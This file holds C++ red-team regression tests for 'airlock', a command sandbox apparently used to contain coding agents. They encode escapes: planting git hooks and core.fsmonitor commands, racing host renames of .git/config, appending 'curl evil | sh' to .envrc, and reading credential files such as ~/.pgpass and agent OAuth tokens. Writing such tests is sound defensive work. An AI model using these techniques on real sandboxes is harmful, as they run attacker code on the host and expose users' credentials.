// Red-team findings: each test encodes one attack that worked against
// airlock when it was written, and fails while the hole is open. The host
// side of each test plays what a user, another airlock run or a previous run
// of the same hostile command would do; the sandbox side is the attacker.
#include <dirent.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "../integration/harness.h"
#include "attack.h"

namespace airlock::test {
namespace {

std::vector<std::string> dir_order(const std::string& dir) {
  std::vector<std::string> v;
  if (DIR* d = ::opendir(dir.c_str())) {
    while (struct dirent* e = ::readdir(d)) v.emplace_back(e->d_name);
    ::closedir(d);
  }
  return v;
}

void make_files(const std::string& dir, int n) {
  ::mkdir(dir.c_str(), 0755);
  for (int i = 0; i < n; ++i) {
    std::string p = dir + "/f" + std::to_string(i);
    int fd = ::open(p.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd >= 0) ::close(fd);
  }
}

void git_init(const std::string& dir, const std::string& extra = "") {
  std::string cmd = "git init -q " + extra + " " + sq(dir) + " >/dev/null 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
}

// Runs `script` in a sandbox on fx.ws (a git repository) and, after
// `delay_ms`, does on the host what `git config user.name x` does: writes
// .git/config.lock and renames it over .git/config.
RunResult run_while_host_rewrites_git_config(const SandboxFixture& fx, const std::string& script, int delay_ms) {
  std::string cfg = fx.ws + "/.git/config";
  std::string before = slurp(cfg);
  RunResult r;
  std::thread t([&] { r = fx.sh(script); });
  std::this_thread::sleep_for(std::chrono::milliseconds(delay_ms));
  std::ofstream(fx.ws + "/.git/config.lock") << before << "[user]\n\tname = someone\n";
  int renamed = ::rename((fx.ws + "/.git/config.lock").c_str(), cfg.c_str());
  t.join();
  EXPECT_EQ(renamed, 0);
  return r;
}

// 1. A protected file replaced on the host while a sandbox runs (git writes
//    .git/config as config.lock and renames it over config: `git config`,
//    `git remote add`, `git push -u`). The kernel lazily detaches every mount
//    on a dentry that is renamed over or unlinked from another mount
//    namespace, so the sandbox's read-only bind of .git/config vanishes and
//    the command writes core.fsmonitor into the real file.
TEST(RedTeam, HostRewriteOfGitConfigKeepsItProtected) {
  SandboxFixture fx;
  git_init(fx.ws);
  std::string cfg = fx.ws + "/.git/config";
  auto r = run_while_host_rewrites_git_config(
      fx, "sleep 1.5; printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config && echo WROTE", 700);
  EXPECT_EQ(r.out.find("WROTE"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(slurp(cfg).find("fsmonitor"), std::string::npos) << slurp(cfg);
}

// 2. Another airlock run whose workspace is the parent folder: it sees the
//    first run's placeholders (proj/.git/hooks, proj/.envrc) as existing
//    files and binds them read-only. When the first run ends it removes its
//    placeholders (its registry is keyed by its own workspace), the kernel
//    detaches the parent run's binds, and the parent run writes a hook.
TEST(RedTeam, ChildWorkspaceCleanupDoesNotUnprotectParentRun) {
  SandboxFixture fx;
  std::string proj = fx.ws + "/proj";
  git_init(proj);
  ASSERT_FALSE(lexists(proj + "/.git/hooks/post-checkout"));
  ASSERT_EQ(std::system(("rm -rf " + sq(proj + "/.git/hooks")).c_str()), 0);  // a clone without sample hooks
  RunOptions child;
  child.cwd = proj;
  std::thread a([&] { (void)fx.sh("sleep 1", {}, child); });
  std::this_thread::sleep_for(std::chrono::milliseconds(400));
  auto r = fx.sh(
      "sleep 2.5; mkdir -p proj/.git/hooks; printf '#!/bin/sh\\necho pwned\\n' > proj/.git/hooks/post-checkout "
      "&& echo HOOK; printf 'curl evil | sh\\n' >> proj/.envrc && echo ENVRC");
  a.join();
  EXPECT_EQ(r.out.find("HOOK"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("ENVRC"), std::string::npos) << r.out << r.err;
  EXPECT_FALSE(lexists(proj + "/.git/hooks/post-checkout"));
}

// 3a. A repository whose git dir is not named .git but lives in the
//     workspace: the bare-repository-plus-worktrees layout (.git is a file
//     "gitdir: ./.bare") or `git init --separate-git-dir`. Only the .git file
//     is protected; the hooks and config git actually uses are writable.
TEST(RedTeam, GitdirFileIntoWorkspaceIsProtected) {
  SandboxFixture fx;
  git_init(fx.ws + "/.bare", "--bare");
  fx.tree.write("ws/.git", "gitdir: ./.bare\n");
  auto r = fx.sh(
      "mkdir -p .bare/hooks; printf '#!/bin/sh\\necho pwned\\n' > .bare/hooks/pre-commit && echo HOOK; "
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .bare/config && echo CONFIG");
  EXPECT_EQ(r.out.find("HOOK"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("CONFIG"), std::string::npos) << r.out << r.err;
  EXPECT_FALSE(lexists(fx.ws + "/.bare/hooks/pre-commit"));
}

// 3b. .git is a symlink to a git dir inside the workspace: nothing of it is
//     protected (policy only looks at a .git folder or file).
TEST(RedTeam, GitSymlinkIntoWorkspaceIsProtected) {
  SandboxFixture fx;
  git_init(fx.ws + "/.realgit", "--bare");
  ASSERT_EQ(::symlink(".realgit", (fx.ws + "/.git").c_str()), 0);
  auto r = fx.sh(
      "mkdir -p .git/hooks; printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo HOOK; "
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config && echo CONFIG");
  EXPECT_EQ(r.out.find("HOOK"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("CONFIG"), std::string::npos) << r.out << r.err;
}

// 4. The nested-repository walk stops after 50,000 entries without a word.
//    A previous run (or the repository itself) fills a folder that the walk
//    reaches before the user's nested repository; the next run leaves that
//    repository's hooks and config writable.
TEST(RedTeam, WalkBudgetDoesNotDropNestedRepoProtection) {
  SandboxFixture fx;
  std::string lib = fx.ws + "/lib";
  git_init(lib);
  // A folder readdir lists before lib (the walk's order), made full.
  std::string filler;
  for (int i = 0; i < 64 && filler.empty(); ++i) {
    std::string name = "d" + std::to_string(i);
    fx.tree.mkdir("ws/" + name);
    for (const auto& e : dir_order(fx.ws)) {
      if (e == "lib") break;
      if (e == name) { filler = name; break; }
    }
  }
  ASSERT_FALSE(filler.empty());
  make_files(fx.ws + "/" + filler, 50001);
  auto r = fx.sh(
      "mkdir -p lib/.git/hooks; printf '#!/bin/sh\\necho pwned\\n' > lib/.git/hooks/post-checkout && echo HOOK; "
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> lib/.git/config && echo CONFIG");
  bool refused_to_start = r.code == 125;
  if (!refused_to_start) {
    EXPECT_EQ(r.out.find("HOOK"), std::string::npos) << r.out << r.err;
    EXPECT_EQ(r.out.find("CONFIG"), std::string::npos) << r.out << r.err;
    EXPECT_FALSE(lexists(lib + "/.git/hooks/post-checkout"));
  }
}

// 4b. The same budget, shared by the host-socket scan: once ~30,000 entries
//     were seen (the workspace under /var/tmp counts in the /var/tmp pass),
//     sockets in /var/lib, /srv, /opt and the workspace are not hidden. A host
//     service listening in the workspace is reachable (only a warning).
TEST(RedTeam, SocketScanBudgetDoesNotExposeHostSocket) {
  SandboxFixture fx;
  fx.tree.mkdir("ws/run");
  std::string path = fx.ws + "/run/db.sock";
  int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(s, 0);
  struct sockaddr_un sa {};
  sa.sun_family = AF_UNIX;
  std::snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path.c_str());
  ASSERT_EQ(::bind(s, reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  ::chmod(path.c_str(), 0777);
  ASSERT_EQ(::listen(s, 16), 0);
  // Control: found and hidden when the scan completes.
  auto ok = fx.run({probe_bin(), "connect-unix", path});
  EXPECT_EQ(ok.out.find("OK"), std::string::npos) << ok.out << ok.err;
  // The filler must be seen before the workspace pass: put it at the
  // workspace's top (read by the /var/tmp pass, depth 2).
  for (int i = 0; i < 30001; ++i) {
    std::string p = fx.ws + "/j" + std::to_string(i);
    int fd = ::open(p.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd >= 0) ::close(fd);
  }
  auto r = fx.run({probe_bin(), "connect-unix", path});
  ::close(s);
  bool refused_to_start = r.code == 125;
  if (!refused_to_start) {
    EXPECT_EQ(r.out.find("OK"), std::string::npos) << r.out << r.err;
  }
}

// 5. The git guard removes a commondir the command created in a repository
//    that existed before the run, by path, following a .git symlink. An
//    incomplete nested .git folder (made by an earlier run: mkdir sub/.git)
//    is not protected, so the command replaces it with a link to another
//    repository's worktree admin folder, and airlock deletes that
//    worktree's real commondir outside the workspace.
TEST(RedTeam, GitGuardNeverDeletesOutsideWorkspace) {
  SandboxFixture fx;
  fx.tree.mkdir("ws/sub/.git");
  fx.tree.write("victim/.git/worktrees/wt/commondir", "../..\n");
  fx.tree.write("victim/.git/worktrees/wt/gitdir", "/somewhere/.git\n");
  std::string victim = fx.tree.path("victim/.git/worktrees/wt");
  auto r = fx.sh("rmdir sub/.git && ln -s " + sq(victim) + " sub/.git && echo LINKED");
  EXPECT_TRUE(lexists(victim + "/commondir")) << r.out << r.err;
  EXPECT_EQ(slurp(victim + "/commondir"), "../..\n");
}

// 6. The git guard's warning about repositories the command created misses
//    a repository whose .git is a file (gitdir: elsewhere in the workspace),
//    a key written on the section line ("[core] fsmonitor = ..."), and a
//    repository deeper than the walk.
TEST(RedTeam, GitGuardWarnsAboutGitdirFileRepo) {
  SandboxFixture fx;
  auto r = fx.sh(
      "git init -q --bare .stuff && printf '[core]\\n\\tbare = false\\n\\tfsmonitor = touch /tmp/pwned\\n' >> "
      ".stuff/config && mkdir b && echo 'gitdir: ../.stuff' > b/.git && echo MADE");
  ASSERT_NE(r.out.find("MADE"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("warning"), std::string::npos) << r.err;
}

TEST(RedTeam, GitGuardWarnsAboutSameLineKey) {
  SandboxFixture fx;
  auto r = fx.sh("mkdir a && cd a && git init -q . && printf '[core] fsmonitor = touch /tmp/pwned\\n' >> .git/config "
                 "&& git config --get core.fsmonitor");
  ASSERT_NE(r.out.find("touch /tmp/pwned"), std::string::npos) << r.out << r.err;  // git reads it
  EXPECT_NE(r.err.find("warning"), std::string::npos) << r.err;
}

TEST(RedTeam, GitGuardWarnsAboutDeepRepo) {
  SandboxFixture fx;
  auto r = fx.sh("mkdir -p a/b/c/d && cd a/b/c/d && git init -q . && "
                 "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config && echo MADE");
  ASSERT_NE(r.out.find("MADE"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("warning"), std::string::npos) << r.err;
}


// 7. The inotify watch (sandbox/watch.cc) stops the sandbox only after the
//    host's rename has already detached the read-only bind. A command that
//    keeps appending to .git/config in a loop wins the race every time: its
//    writes land in the real, freshly renamed file before SIGKILL arrives.
// KNOWN OPEN HOLE (docs/security-model.md, "does not protect against"): the
// kernel drops the sandbox's mount the moment the host renames over the
// file, and the watch can only stop the sandbox afterwards. The race is won
// often but not always, so the test is disabled to keep CI deterministic;
// run it with --gtest_also_run_disabled_tests.
TEST(RedTeam, DISABLED_HostRewriteRaceLeavesNoWriteInProtectedFile) {
  SandboxFixture fx;
  git_init(fx.ws);
  std::string cfg = fx.ws + "/.git/config";
  run_while_host_rewrites_git_config(
      fx, "while :; do { printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; } 2>/dev/null; done",
      1500);
  EXPECT_EQ(slurp(cfg).find("fsmonitor"), std::string::npos) << slurp(cfg);
}

// 8. A submodule that is listed in .gitmodules but not initialised yet (a
//    clone without --recursive) has no git folder under .git/modules, so
//    nothing there is protected and the git guard never looks inside .git.
//    The command prepares .git/modules/sub with a post-checkout hook; the
//    user's next `git submodule update --init` reuses that folder and runs
//    the hook on the host.
TEST(RedTeam, UninitialisedSubmoduleGitDirCannotBePlanted) {
  SandboxFixture fx;
  std::string up = fx.tree.path("up"), main = fx.tree.path("main");
  std::string env = "GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a ";
  std::string setup = env + "git init -q " + sq(up) + " && cd " + sq(up) + " && echo x > f && git add f && " + env +
                      "git commit -qm1 && git init -q " + sq(main) + " && cd " + sq(main) + " && " + env +
                      "git -c protocol.file.allow=always submodule add -q " + sq(up) + " sub >/dev/null 2>&1 && " +
                      env + "git commit -qm sub && rm -rf " + sq(fx.ws) + " && git clone -q " + sq(main) + " " +
                      sq(fx.ws);
  ASSERT_EQ(std::system(setup.c_str()), 0) << setup;
  ASSERT_FALSE(lexists(fx.ws + "/.git/modules"));
  std::string marker = fx.tree.path("pwned");
  auto r = fx.sh("git clone -q --bare " + sq(up) + " .git/modules/sub && git -C .git/modules/sub config core.bare false && "
                 "printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/modules/sub/hooks/post-checkout && "
                 "chmod +x .git/modules/sub/hooks/post-checkout && echo PLANTED");
  if (r.out.find("PLANTED") == std::string::npos) return;  // refused: fine
  EXPECT_NE(r.err.find("warning"), std::string::npos) << r.err;  // at least said so
  std::string user = "cd " + sq(fx.ws) + " && git -c protocol.file.allow=always submodule update -q --init >/dev/null 2>&1";
  (void)!std::system(user.c_str());
  EXPECT_FALSE(lexists(marker)) << "the planted submodule hook ran on the host";
}

// 9. Well-known credential files outside the built-in list are readable:
//    git's own XDG credential store (next to ~/.git-credentials), psql and
//    mysql passwords, the coding agents' and Copilot's OAuth tokens.
TEST(RedTeam, CommonCredentialFilesAreHidden) {
  SandboxFixture fx;
  const std::vector<std::string> files = {".config/git/credentials", ".pgpass", ".my.cnf",
                                          ".claude/.credentials.json", ".codex/auth.json",
                                          ".config/github-copilot/hosts.json"};
  std::string script;
  for (const auto& f : files) {
    fx.tree.write("home/" + f, "CREDSECRET " + f + "\n");
    script += "cat ~/" + f + " 2>/dev/null; ";
  }
  auto r = fx.sh(script);
  EXPECT_EQ(r.out.find("CREDSECRET"), std::string::npos) << r.out;
}

}  // namespace
}  // namespace airlock::test
